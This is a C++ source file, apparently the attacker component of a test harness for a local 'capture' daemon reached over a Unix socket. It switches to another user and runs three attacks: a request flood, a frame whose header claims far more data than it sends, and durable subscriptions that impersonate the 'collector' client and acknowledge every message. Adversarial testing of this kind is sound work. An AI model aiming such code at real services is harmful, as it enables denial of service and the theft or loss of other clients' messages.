#include "attack.h"

#include <grp.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <array>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <vector>

#include "netns.h"

namespace hand {
namespace {

constexpr std::uint16_t kHello = 0x0010;
constexpr std::array<std::uint16_t, 4> kRequests = {0x0201, 0x0301, 0x0501, 0x0401};
constexpr std::uint16_t kKnobSet = 0x0203;
constexpr std::uint16_t kSubscribe = 0x0101;
constexpr std::uint16_t kAck = 0x0104;
constexpr std::uint32_t kLong = 16 << 20;
constexpr std::size_t kHalf = 1 << 20;

/// The header of docs/wire.md.
void append(std::string& out, std::uint16_t type, std::uint32_t length, std::string_view payload) {
  struct {
    std::uint32_t length;
    std::uint16_t type;
    std::uint16_t flags;
    std::uint32_t sequence;
    std::uint32_t port;
  } const header{length, type, 1, 1, 0};
  out.append(reinterpret_cast<const char*>(&header), sizeof header).append(payload);
}

/// A field of protobuf whose value has a length below 128.
std::string text_field(int number, const std::string& value) { return std::string{static_cast<char>(number << 3 | 2), static_cast<char>(value.size())} + value; }

/// Subscribes durably under the collector's name and acknowledges what no log has so far; then under a name that is new.
void append_keeping(std::string& out, int session) {
  for (const std::string& name : {std::string("collector"), "thief-" + std::to_string(session)}) {
    const std::string subscribe = std::string("\x08\x01", 2) + text_field(2, name);  // mode: durable
    append(out, kSubscribe, 16 + subscribe.size(), subscribe);
    const std::string everything("\x10\xff\xff\xff\xff\xff\xff\xff\x7f", 9);  // sequence
    append(out, kAck, 16 + everything.size(), everything);
  }
}

std::string message(const Attack& how, int session) {
  constexpr std::string_view hello("\x08\x01\x10\x01", 4);  // version_min and version_max are 1
  std::string all;
  append(all, kHello, 16 + hello.size(), hello);
  switch (how.way) {
    case Way::whole:
      for (int i = 0; i < how.frames; ++i) append(all, kRequests[static_cast<std::size_t>(i) % kRequests.size()], 16, {});
      break;
    case Way::half: append(all, kKnobSet, kLong, std::string(kHalf, 'x')); break;
    case Way::keep: append_keeping(all, session); break;
  }
  return all;
}

Fd connected(const std::string& path) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  path.copy(address.sun_path, sizeof address.sun_path - 1);
  Fd fd(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  if (connect(fd.get(), reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) fail("connect to the capture");
  return fd;
}

}  // namespace

void attack(const Attack& how) {
  const gid_t group = how.uid;
  const gid_t capture = getgid();
  if (setgroups(1, how.way == Way::keep ? &capture : &group) != 0 || setgid(group) != 0 || setuid(how.uid) != 0) fail("become another user");
  for (int round = 0; round <= how.rounds; ++round) {
    std::vector<Fd> sessions;
    for (int i = 0; i < how.sessions; ++i) {
      const std::string all = message(how, i);
      sessions.push_back(connected(how.socket));
      // What the kernel takes at once; the capture reads no more when answers wait.
      [[maybe_unused]] const ssize_t taken = send(sessions.back().get(), all.data(), all.size(), MSG_DONTWAIT | MSG_NOSIGNAL);
    }
    if (how.rounds == 0) {
      std::puts("under way");
      std::fflush(stdout);
      sigset_t none;
      sigemptyset(&none);
      sigsuspend(&none);
    }
  }
  std::puts("over");
}

}  // namespace hand
